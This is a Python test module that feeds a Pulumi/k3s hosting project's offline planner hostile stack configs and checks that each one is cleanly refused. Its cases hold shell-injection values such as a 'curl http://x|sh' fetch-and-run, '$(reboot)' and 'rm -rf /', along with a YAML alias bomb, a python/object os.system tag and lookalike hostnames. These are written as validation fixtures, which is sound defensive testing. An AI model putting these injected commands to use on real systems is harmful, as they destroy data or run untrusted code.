"""Hostile and careless stack files: injections, wrong types, bombs. Each must be refused by the offline plan
with exit 2, a message naming its key, no traceback, and nothing registered.

    python -m tests.hostile        # run every case in a subprocess of its own and print the tally

Each case is the guarded test stack (tests/stacks/Pulumi.guarded.yaml) with one edit: `set` replaces values at
dotted paths under `cht-hosting:<key>` (None removes), or `text` is the whole file.
"""

from __future__ import annotations

import copy
import re
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import yaml

STACKS = Path(__file__).parent / "stacks"
BASE_TEXT = (STACKS / "Pulumi.guarded.yaml").read_text()
BASE = yaml.safe_load(BASE_TEXT)
KEY = BASE["config"]["cht-hosting:ssh"]["authorizedKeys"][0]
GOOD_THUMBPRINT = BASE["config"]["cht-hosting:vsphere"]["thumbprint"]
CREDENTIALS = {"user": {"secure": "v1:a"}, "password": {"secure": "v1:b"}, "secret": {"secure": "v1:c"}, "uuid": {"secure": "v1:d"}}


class _NoAliases(yaml.SafeDumper):
    def ignore_aliases(self, data):
        return True


@dataclass(frozen=True)
class Case:
    name: str
    expect: str
    """A text the refusal must contain: the key it names."""
    set: dict = field(default_factory=dict)
    text: str | None = None

    def render(self) -> str:
        if self.text is not None:
            return self.text
        document = copy.deepcopy(BASE)
        config = document["config"]
        for path, value in self.set.items():
            top, _, rest = path.partition(".")
            full = top if ":" in top else f"cht-hosting:{top}"
            if not rest:
                if value is None:
                    config.pop(full, None)
                else:
                    config[full] = value
                continue
            node = config.setdefault(full, {})
            *parents, last = rest.split("/") if "/" in rest else rest.split(".")
            for part in parents:
                node = node.setdefault(part, {})
            node[last] = value
        return yaml.dump(document, Dumper=_NoAliases, sort_keys=False)


def _migration(volumes: list, county: str = "kisumu") -> dict:
    return {f"counties.{county}": {"migration": {"volumes": volumes}}, "migratedCredentials": {county: CREDENTIALS}}


def _backup(**s3) -> dict:
    """A valid backup section with `s3` keys replaced, and its keys as secrets."""
    return {
        "backup": {"s3": {"endpoint": "https://s3.moh.example.org:9000", "bucket": "cht-backups", **s3}},
        "backupAccessKeyId": {"secure": "v1:k"},
        "backupSecretAccessKey": {"secure": "v1:s"},
        "etcdBackupAccessKeyId": {"secure": "v1:e"},
        "etcdBackupSecretAccessKey": {"secure": "v1:t"},
    }


def _backup_section(section: str, **values) -> dict:
    case = _backup()
    case["backup"][section] = values
    return case


CASES: list[Case] = [
    # --- shell, nginx, YAML and INI injections --------------------------------------------------------------
    Case("install-url-semicolon", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io; curl http://x|sh"}),
    Case("install-url-subshell", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/$(reboot)"}),
    Case("install-url-backtick", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/`id`"}),
    Case("install-url-quote", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io/\"; reboot; \""}),
    Case("install-url-file", "k3s.installScriptUrl", {"k3s.installScriptUrl": "file:///etc/passwd"}),
    Case("install-url-credentials", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://u:p@get.k3s.io"}),
    Case("install-url-newline", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io\n"}),
    Case("install-url-no-host", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https:///install.sh"}),
    Case("host-template-newline", "cht.hostTemplate", {"cht.hostTemplate": "{county}.cht.example.org\n"}),
    Case("host-nginx-directive", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org;\n return 200;"}}),
    Case("host-trailing-dot", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org."}}),
    Case("host-space", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu example.org"}}),
    Case("host-newline", "counties.kisumu.host", {"counties.kisumu": {"host": "kisumu.example.org\n"}}),
    Case("thumbprint-insecure-flag", "vsphere.thumbprint", {"vsphere.thumbprint": GOOD_THUMBPRINT + "\ninsecureFlag: true"}),
    Case("thumbprint-short", "vsphere.thumbprint", {"vsphere.thumbprint": "AB:CD insecureFlag"}),
    Case("ntp-chrony-directive", "network.ntp", {"network.ntp": ["pool.ntp.org iburst\nallow all"]}),
    Case("ntp-server-word", "network.ntp", {"network.ntp": ["server 10.0.0.1"]}),
    Case("ntp-newline", "network.ntp", {"network.ntp": ["ntp.moh.example.org\n"]}),
    Case("ssh-two-keys", "ssh.authorizedKeys", {"ssh.authorizedKeys": [KEY + "\n" + KEY.replace("ops@", "evil@")]}),
    Case("ssh-options", "ssh.authorizedKeys", {"ssh.authorizedKeys": ['command="reboot" ' + KEY]}),
    Case("ssh-bad-base64", "ssh.authorizedKeys", {"ssh.authorizedKeys": ["ssh-ed25519 not*base64 ops"]}),
    Case("ssh-wrong-blob", "ssh.authorizedKeys", {"ssh.authorizedKeys": [KEY.replace("ssh-ed25519", "ssh-rsa", 1)]}),
    Case("ssh-unknown-type", "ssh.authorizedKeys", {"ssh.authorizedKeys": ["ssh-dss AAAAB3NzaC1kc3MAAACBAP ops"]}),
    Case("mirror-endpoint-yaml", "k3s.registryMirrors", {"k3s.registryMirrors": {"docker.io": ["https://m.example.org\n  insecure_skip_verify: true"]}}),
    Case("mirror-key-yaml", "k3s.registryMirrors", {"k3s.registryMirrors": {"docker.io\nconfigs:": ["https://m.example.org"]}}),
    Case("chart-repo-quote", "cpi.chartRepository", {"cpi.chartRepository": "https://charts.example.org'; rm -rf /"}),
    Case("cpi-image-shell", "cpi.image", {"cpi.image": "registry.example.org/cpi; rm -rf /"}),
    Case("cht-registry-newline", "cht.registry", {"cht.registry": "public.ecr.aws/medic\nevil"}),
    # The host a template makes for a county is a DNS name too (an Ingress host is never an address; labels <= 63).
    Case("template-makes-an-address", "counties.123.host: ", {"cht.hostTemplate": "10.0.0.{county}", "counties.123": {}}),
    Case("template-makes-a-long-label", "counties.nairobi.host: ", {"cht.hostTemplate": "{county}-" + "x" * 56 + ".example.org"}),
    Case("control-plane-1gb", "controlPlane.memoryGb", {"controlPlane.memoryGb": 1}),
    # A county whose own mapping lacks a required key is refused, never dropped from the plan (with a deployed
    # state a dropped county is a removal).
    Case("county-migration-empty", "counties.kisumu.migration.volumes: is required", {"counties.kisumu.migration": {}}),
    Case("county-migration-without-volumes", "counties.kisumu.migration.volumes: is required", {"counties.kisumu.migration": {"dataPath": "data"}}),
    Case("migrated-credentials-unused", "migratedCredentials.kisumu: is set, but", {"migratedCredentials": {"kisumu": CREDENTIALS}}),
    Case("migrated-credentials-no-county", "migratedCredentials.garissa: is set, but", {"migratedCredentials": {"garissa": CREDENTIALS}}),
    # Each Kubernetes name is refused as what it is, not as a node name.
    Case("tls-secret-upper-case", "cht.tls.secretName: 'TLS' is not a valid Secret name", {"cht.tls": {"secretName": "TLS"}}),
    Case("storage-class-underscore", "storageClass.name: 'vmware_sc' is not a valid StorageClass name", {"storageClass.name": "vmware_sc"}),
    Case("cluster-issuer-dot", "cht.tls.clusterIssuer: 'letsencrypt.prod' is not a valid ClusterIssuer name", {"cht.tls": {"clusterIssuer": "letsencrypt.prod"}}),
    Case("velero-namespace-upper", "backup.velero.namespace: 'Velero' is not a valid namespace name", _backup_section("velero", namespace="Velero")),
    Case("upgrade-image-latest", "cht.upgradeServiceImage", {"cht.upgradeServiceImage": "medicmobile/upgrade-service:latest"}),
    Case("upgrade-image-arabic-tag", "cht.upgradeServiceImage", {"cht.upgradeServiceImage": "medicmobile/upgrade-service:٠.٣٢"}),
    Case("upgrade-image-untagged", "cht.upgradeServiceImage", {"cht.upgradeServiceImage": "medicmobile/upgrade-service"}),
    Case("csi-manifest-subshell", "csi.manifestUrl", {"csi.manifestUrl": "https://m.example.org/{version}/$(id).yaml"}),
    Case("snapshot-url-scheme", "csi.snapshots.baseUrl", {"csi.snapshots": {"baseUrl": "javascript:{version}"}}),
    Case("suc-url-and", "k3s.systemUpgradeControllerUrl", {"k3s.systemUpgradeControllerUrl": "https://m.example.org/{version} && reboot"}),
    Case("datastore-url-yaml", "storageClass.datastoreUrl", {"storageClass": {"datastoreUrl": "ds:///vmfs/volumes/x\nreclaimPolicy: Delete"}}),
    Case("policy-name-quote", "storageClass.storagePolicyName", {"storageClass": {"storagePolicyName": 'gold"\n'}}),
    Case("vip-interface-shell", "k3s.kubeVipInterface", {"k3s.kubeVipInterface": "ens192; reboot"}),
    Case("datacenter-ini", "vsphere.datacenter", {"vsphere.datacenter": 'DC1"\n[Global]'}),
    Case("user-ini", "vsphere.user", {"vsphere.user": "pulumi@vsphere.local\npassword = x"}),
    Case("couchdb-user-newline", "counties.kisumu.couchdbUser", {"counties.kisumu": {"couchdbUser": "medic\n"}}),
    Case("cluster-issuer-newline", "counties.kisumu.tls.clusterIssuer", {"counties.kisumu": {"tls": {"clusterIssuer": "le\n"}}}),
    Case("cluster-id-newline", "csi.clusterId", {"csi.clusterId": "cluster-1\n"}),
    Case("county-name-newline", "counties.", {"counties": {"kisumu\n": {}, "nakuru": {}}}),
    Case("vcenter-server-url", "vsphere.server", {"vsphere.server": "https://vcenter.example.org"}),
    Case("vcenter-server-list", "vsphere.server: must be text", {"vsphere.server": ["vcenter.moh.example.org"]}),
    Case("vcenter-server-empty", "vsphere.server: ''", {"vsphere.server": ""}),
    Case("api-endpoint-number", "k3s.apiEndpoint: must be text", {"k3s.apiEndpoint": 10}),
    Case("api-endpoint-space", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.10 --flag", "k3s.apiEndpointMode": "load-balancer"}),
    # --- host paths and migrated volumes ---------------------------------------------------------------------
    Case("hostpath-k3s-data", "migration.volumes[0].hostPath", _migration([{"hostPath": "/var/lib/rancher/k3s", "node": "agent-1"}])),
    Case("hostpath-dotdot", "migration.volumes[0].hostPath", _migration([{"hostPath": "/srv/../var/lib/kubelet", "node": "agent-1"}])),
    Case("hostpath-etc", "migration.volumes[0].hostPath", _migration([{"hostPath": "/etc/cht", "node": "agent-1"}])),
    Case("hostpath-root", "migration.volumes[0].hostPath", _migration([{"hostPath": "/", "node": "agent-1"}])),
    Case("hostpath-var", "migration.volumes[0].hostPath", _migration([{"hostPath": "/var", "node": "agent-1"}])),
    Case("hostpath-newline", "migration.volumes[0].hostPath", _migration([{"hostPath": "/srv/data\n", "node": "agent-1"}])),
    Case("hostpath-relative", "migration.volumes[0].hostPath", _migration([{"hostPath": "srv/data", "node": "agent-1"}])),
    Case("hostpath-on-server", "migration.volumes[0].node", _migration([{"hostPath": "/srv/cht/kisumu", "node": "cp-2"}])),
    Case(
        "volume-in-two-counties",
        "counties.nakuru.migration.volumes[0].volumeHandle",
        {
            "counties.kisumu": {"migration": {"volumes": [{"volumeHandle": "fcd-0001"}]}},
            "counties.nakuru": {"migration": {"volumes": [{"volumeHandle": "fcd-0001"}]}},
            "migratedCredentials": {"kisumu": CREDENTIALS, "nakuru": CREDENTIALS},
        },
    ),
    Case("volume-handle-shell", "migration.volumes[0].volumeHandle", _migration([{"volumeHandle": "fcd-1; reboot"}])),
    Case("s3-endpoint-newline", "backup.s3.endpoint", _backup(endpoint="https://s3.moh.example.org\n")),
    Case("s3-endpoint-path", "backup.s3.endpoint", _backup(endpoint="https://s3.moh.example.org/$(id)")),
    Case("s3-bucket-newline", "backup.s3.bucket", _backup(bucket="cht-backups\n")),
    Case("s3-region-newline", "backup.s3.region", _backup(region="us-east-1\n")),
    Case("etcd-folder-newline", "backup.etcd.folder", _backup_section("etcd", folder="cht/etcd\n")),
    Case("etcd-cron-shell", "backup.etcd.schedule", _backup_section("etcd", schedule="0 1 * * *; reboot")),
    Case("drill-image-latest", "backup.drill.image", _backup_section("drill", image="docker.io/alpine/k8s:latest")),
    Case("velero-image-latest", "backup.velero.image", _backup_section("velero", image="velero/velero:latest")),
    Case("velero-plugin-arabic-tag", "backup.velero.awsPluginImage", _backup_section("velero", awsPluginImage="velero/velero-plugin-for-aws:v١.١٤.٢")),
    Case("drill-image-newline", "backup.drill.image", _backup_section("drill", image="docker.io/alpine/k8s:1.35.0\n")),
    # --- types -----------------------------------------------------------------------------------------------------
    Case("couchdb-nodes-bool", "cht.couchdbNodes", {"cht.couchdbNodes": True}),
    Case("cpus-bool", "controlPlane.cpus", {"controlPlane.cpus": True}),
    Case("memory-text", "agents.memoryGb", {"agents.memoryGb": "64"}),
    Case("insecure-number", "vsphere.insecure", {"vsphere.insecure": 1}),
    Case("manage-roles-yes", "vsphere.manageCnsRoles", {"vsphere.manageCnsRoles": "yes"}),
    Case("replicas-fraction", "ingress.replicas", {"ingress": {"replicas": 2.5}}),
    Case("budget-infinite", "cht.budget.cpu", {"cht.budget.cpu": float("inf")}),
    Case("budget-nan", "cht.budget.memoryGb", {"cht.budget.memoryGb": float("nan")}),
    Case("spare-negative", "capacity.spareAgents", {"capacity": {"spareAgents": -1}}),
    Case("hardware-13", "vsphere.hardwareVersion", {"vsphere.hardwareVersion": 13}),
    Case("storage-zero", "cht.couchdbStorageGb", {"cht.couchdbStorageGb": 0}),
    Case("version-prerelease", "cht.version", {"cht.version": "4.22.0-rc.1"}),
    Case("k3s-version-shell", "k3s.version", {"k3s.version": "v1.35.2+k3s1;reboot"}),
    # --- addresses --------------------------------------------------------------------------------------------------
    Case("node-is-dns", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.2"}),
    Case("node-is-gateway", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.1"}),
    Case("node-is-broadcast", "agents.nodes.agent-1", {"agents.nodes.agent-1": "10.20.0.255"}),
    Case("vip-is-network", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.0"}),
    Case("dns-loopback", "network.dns", {"network.dns": ["127.0.0.53"]}),
    Case("dns-unspecified", "network.dns", {"network.dns": ["0.0.0.0"]}),
    Case("dns-broadcast", "network.dns", {"network.dns": ["255.255.255.255"]}),
    Case("dns-multicast", "network.dns", {"network.dns": ["224.0.0.251"]}),
    Case("dns-in-pod-network", "network.dns", {"network.dns": ["10.42.0.10"]}),
    Case("dns-in-service-network", "network.dns", {"network.dns": ["10.43.0.10"]}),
    Case("lb-endpoint-in-pod-network", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.42.0.1", "k3s.apiEndpointMode": "load-balancer"}),
    Case("lb-endpoint-loopback", "k3s.apiEndpoint", {"k3s.apiEndpoint": "127.0.0.1", "k3s.apiEndpointMode": "load-balancer"}),
    Case("vip-is-dns", "k3s.apiEndpoint", {"k3s.apiEndpoint": "10.20.0.2"}),
    # --- the stack file itself ----------------------------------------------------------------------------------
    Case("namespace-misspelled", "cht-hostng:capacity", {"cht-hostng:capacity": {"spareAgents": 0}}),
    Case("namespace-unknown", "aws:region", {"aws:region": "eu-west-1"}),
    Case("file-is-a-list", "is not a mapping", text="- config\n- cht-hosting:cht\n"),
    Case("config-is-text", "`config` is not a mapping", text="config: cht-hosting\n"),
    Case(
        "alias-bomb",
        "alias",
        text=BASE_TEXT.replace(
            "config:\n",
            "x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
            + "".join(f"x{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n" for i in range(1, 12))
            + "config:\n",
            1,
        ),
    ),
    Case("deep-nesting", "nests values too deeply", text="config:\n  cht-hosting:cht: " + "[" * 3000 + "]" * 3000 + "\n"),
    Case("duplicate-county", "appears twice", text=BASE_TEXT.replace("    kisumu: {}\n", "    kisumu: {}\n    kisumu: {couchdbNodes: 3}\n")),
    Case("python-tag", "not valid YAML", text=BASE_TEXT.replace("version: 4.22.0", "version: !!python/object/apply:os.system ['reboot']")),
    Case("date-value", "cht-hosting:cht.version", text=BASE_TEXT.replace("version: 4.22.0", "version: 2024-01-01")),
    Case("yaml-infinity", "cht-hosting:cht.budget.cpu", text=BASE_TEXT.replace("cpu: 2", "cpu: .inf")),
    Case("county-key-number", "cht-hosting:counties", text=BASE_TEXT.replace("    kisumu: {}\n", "    1: {}\n")),
    Case("county-key-list", "is not text", text=BASE_TEXT.replace("    kisumu: {}\n", "    ? [kisumu, nakuru]\n    : {}\n")),
    Case("county-key-mapping", "is not text", text=BASE_TEXT.replace("    kisumu: {}\n", "    ? {kisumu: 1}\n    : {}\n")),
    # Keys are camelCase: the Python field name (snake_case) is an unknown key too, not a second spelling.
    Case("county-key-snake-case", "counties.kisumu.couchdb_nodes: unknown key", {"counties.kisumu.couchdb_nodes": 3}),
    Case("section-key-snake-case", "controlPlane.anti_affinity: unknown key", {"controlPlane.anti_affinity": False}),
    Case("nested-key-snake-case", "cht.budget.memory_gb: unknown key", {"cht.budget": {"cpu": 2, "memory_gb": 8}}),
    Case("integer-5000-digits", "a value is not one a setting takes", text=BASE_TEXT.replace("cpus: 16", "cpus: " + "9" * 5000)),
    Case("merge-key", "merge key", text=BASE_TEXT.replace("    kisumu: {}\n", "    kisumu: {<<: {couchdbNodes: 3}}\n")),
    # --- reserved names: namespaces, classes, hosts and Secrets of the platform and of each other -------------
    *(
        Case(f"county-named-{ns}", f"counties.{ns}", {"counties": {"kisumu": {}, ns: {}}})
        for ns in (
            "kube-system", "kube-public", "kube-node-lease", "default", "velero", "restore-drill-scratch",
            "monitoring", "cert-manager", "tigera-operator", "calico-system", "vmware-system-csi", "system-upgrade",
        )
    ),
    Case("backup-namespace-is-a-county", "backup.velero.namespace", _backup_section("velero", namespace="kisumu")),
    Case("backup-namespace-kube-system", "backup.velero.namespace", _backup_section("velero", namespace="kube-system")),
    Case("backup-namespace-monitoring", "backup.velero.namespace", _backup_section("velero", namespace="monitoring")),
    Case("backup-namespace-drill", "backup.velero.namespace", _backup_section("velero", namespace="restore-drill-scratch")),
    Case("drill-class-is-county-class", "backup.drill.storageClass", _backup_section("drill", storageClass="vmware-sc")),
    Case("county-host-is-vcenter", "counties.kisumu.host", {"counties.kisumu": {"host": "vcenter.moh.example.org"}}),
    Case("county-host-is-s3", "counties.kisumu.host", {**_backup(), "counties.kisumu": {"host": "s3.moh.example.org"}}),
    Case(
        "tls-secret-is-credentials",
        "counties.kisumu.tls.secretName",
        {"counties.kisumu": {"tls": {"secretName": "cht-couchdb-credentials"}}},
    ),
    Case("ssh-user-root", "ssh.user", {"ssh.user": "root"}),
    Case("ssh-user-too-long", "ssh.user", {"ssh.user": "a" * 40}),
    # --- grammar gaps: other scripts' digits, dates that never occur, templates, unbounded numbers -----------------
    Case("cron-arabic-digit", "backup.counties.schedule", _backup_section("counties", schedule="٣ 1 * * *")),
    Case("cron-fullwidth-digit", "backup.counties.schedule", _backup_section("counties", schedule="0 １ * * *")),
    Case("cron-step-arabic", "backup.drill.schedule", _backup_section("drill", schedule="*/٥ * * * *")),
    Case("cron-february-30", "backup.counties.schedule", _backup_section("counties", schedule="0 1 30 2 *")),
    Case("cron-april-31", "backup.drill.schedule", _backup_section("drill", schedule="0 5 31 4 *")),
    Case("cron-tab", "backup.counties.schedule", _backup_section("counties", schedule="0\t1 * * *")),
    Case("cron-six-fields", "backup.counties.schedule", _backup_section("counties", schedule="0 0 1 * * *")),
    Case("nodeport-arabic-text", "ingress.httpsNodePort", {"ingress": {"httpsNodePort": "٣٠٤٤٣"}}),
    Case("nodeport-out-of-range", "ingress.httpsNodePort", {"ingress": {"httpsNodePort": 80}}),
    Case("nodeports-equal", "ingress.httpNodePort", {"ingress": {"httpsNodePort": 30443, "httpNodePort": 30443}}),
    Case("registry-port-arabic", "k3s.registryMirrors", {"k3s.registryMirrors": {"registry.example.org:٥000": ["https://m.example.org"]}}),
    Case("registry-port-huge", "k3s.registryMirrors", {"k3s.registryMirrors": {"registry.example.org:99999": ["https://m.example.org"]}}),
    Case("version-arabic-digits", "cht.version", {"cht.version": "٤.22.0"}),
    Case("k3s-version-fullwidth", "k3s.version", {"k3s.version": "v1.35.２+k3s1"}),
    Case("chart-version-arabic", "monitoring.stackChartVersion", {"monitoring": {"stackChartVersion": "88.٥.3"}}),
    Case("drain-timeout-overflows-go", "k3s.drainTimeoutMinutes", {"k3s.drainTimeoutMinutes": 10**15}),
    Case("ingress-timeout-overflows-go", "ingress.timeoutSeconds", {"ingress": {"timeoutSeconds": 10**13}}),
    Case("storage-huge", "cht.couchdbStorageGb", {"cht.couchdbStorageGb": 10**18}),
    Case("budget-huge", "cht.budget.cpu", {"cht.budget.cpu": 1e12}),
    Case("agents-disk-huge", "agents.diskGb", {"agents.diskGb": 10**12}),
    Case("service-range-slash-30", "k3s.serviceCidr", {"k3s.serviceCidr": "10.43.0.0/30"}),
    Case("service-range-slash-8", "k3s.serviceCidr", {"k3s.serviceCidr": "10.0.0.0/8", "k3s.clusterCidr": "172.16.0.0/16"}),
    Case("pod-range-slash-24", "k3s.clusterCidr", {"k3s.clusterCidr": "10.42.0.0/24"}),
    Case("cidr-arabic", "k3s.serviceCidr", {"k3s.serviceCidr": "10.43.0.0/١٦"}),
    Case(
        "backup-prefixes-overlap",
        "backup.counties.prefix",
        {**_backup_section("counties", prefix="cht-hosting"), "backup.etcd": {"folder": "cht-hosting/etcd"}},
    ),
    Case("backup-prefixes-equal", "backup.counties.prefix", _backup_section("counties", prefix="cht-hosting/etcd")),
    Case("email-template-to", "monitoring.email.to", {"monitoring": {"email": {"to": ["{{ .CommonLabels.team }}@moh.example.org"], "from": "a@moh.example.org", "smarthost": "smtp.moh.example.org:587"}}}),
    Case("email-template-from", "monitoring.email.from", {"monitoring": {"email": {"to": ["ops@moh.example.org"], "from": "{{ template \"x\" }}@moh.example.org", "smarthost": "smtp.moh.example.org:587"}}}),
    Case("email-display-name", "monitoring.email.to", {"monitoring": {"email": {"to": ["Ops <ops@moh.example.org>"], "from": "a@moh.example.org", "smarthost": "smtp.moh.example.org:587"}}}),
    Case("smarthost-arabic-port", "monitoring.email.smarthost", {"monitoring": {"email": {"to": ["ops@moh.example.org"], "from": "a@moh.example.org", "smarthost": "smtp.moh.example.org:٥٨٧"}}}),
    Case("smtp-login-control", "monitoring.email.username", {"monitoring": {"email": {"to": ["ops@moh.example.org"], "from": "a@moh.example.org", "smarthost": "smtp.moh.example.org:587", "username": "ops\u0007"}}, "monitoringSmtpPassword": {"secure": "v1:p"}}),
    Case("webhook-shell", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://hooks.moh.example.org/$(reboot)"}}}),
    Case("webhook-backtick", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://hooks.moh.example.org/`id`"}}}),
    Case("webhook-lookalike-host", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://аlerts.moh.example.org/hook"}}}),
    Case("webhook-huge", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://hooks.moh.example.org/" + "a" * 200_000}}}),
    Case("webhook-newline", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://hooks.moh.example.org/x\nfoo"}}}),
    Case("webhook-template", "monitoring.webhook.url", {"monitoring": {"webhook": {"url": "https://hooks.moh.example.org/{{ .Status }}"}}}),
    Case("couchdb-user-control", "counties.kisumu.couchdbUser", {"counties.kisumu": {"couchdbUser": "medic\u0007"}}),
    Case("couchdb-user-unicode", "counties.kisumu.couchdbUser", {"counties.kisumu": {"couchdbUser": "médic"}}),
    Case("accept-unknown-edit", "deployedState.accept", {"deployedState": {"accept": ["counties.kisumu.couchdbNodes"]}}),
    Case("organization-shell", "deployedState.organization", {"deployedState": {"organization": "moh;reboot"}}),
    Case("folder-arabic", "backup.etcd.folder", _backup_section("etcd", folder="cht/٣")),
    Case("bucket-unicode", "backup.s3.bucket", _backup(bucket="cht-бackups")),
    Case("hostname-idn-lookalike", "counties.kisumu.host", {"counties.kisumu": {"host": "kіsumu.moh.example.org"}}),
    # --- the stack file and its namespaces ----------------------------------------------------------------------
    Case(
        "namespace-misspelled-everywhere",
        "cht-hostng:",
        text=BASE_TEXT.replace("cht-hosting:", "cht-hostng:"),
    ),
    Case("short-key-beside-full-key", "keep one", text=BASE_TEXT.replace("config:\n", "config:\n  cht: {version: 4.22.0}\n", 1)),
    Case("top-level-key-misspelled", "did you mean", {"countis": {"kisumu": {}}}),
    Case(
        "capacity-with-other-problems",
        "cht-hosting:agents.nodes: the counties' quotas",
        {"cht.budget": {"cpu": 20, "memoryGb": 8}, "vsphere.insecure": "yes", "capacity.onShortfall": "error"},
    ),
]


def run_in_subprocess(case: Case, directory: Path) -> tuple[int, str]:
    """Run `python -m offline.plan` on the case in a process of its own; (exit code, stderr + stdout)."""
    (directory / f"Pulumi.{case.name}.yaml").write_text(case.render())
    done = subprocess.run(
        [sys.executable, "-m", "offline.plan", case.name, "--stack-dir", str(directory)],
        capture_output=True,
        text=True,
        cwd=Path(__file__).parent.parent,
        timeout=300,
    )
    return done.returncode, done.stderr + done.stdout


# pydantic's names for the members of a union (`function-after[validate(), str]`): never part of a config key.
_PYDANTIC_INTERNALS = re.compile(r"function-(?:after|before|plain|wrap)\[")


def refused_cleanly(case: Case, code: int, output: str) -> bool:
    return (
        code == 2 and case.expect in output and "Traceback" not in output and "registered)" not in output
        and not _PYDANTIC_INTERNALS.search(output)
    )


if __name__ == "__main__":
    import tempfile
    from concurrent.futures import ThreadPoolExecutor

    with tempfile.TemporaryDirectory() as tmp, ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda c: (c, *run_in_subprocess(c, Path(tmp))), CASES))
    bad = [(c, code, out) for c, code, out in results if not refused_cleanly(c, code, out)]
    for case, code, output in bad:
        print(f"NOT REFUSED CLEANLY: {case.name} (exit {code}, expected {case.expect!r})\n{output[-1500:]}\n")
    print(f"hostile configs: {len(results)} tried, {len(results) - len(bad)} refused cleanly")
    sys.exit(1 if bad else 0)
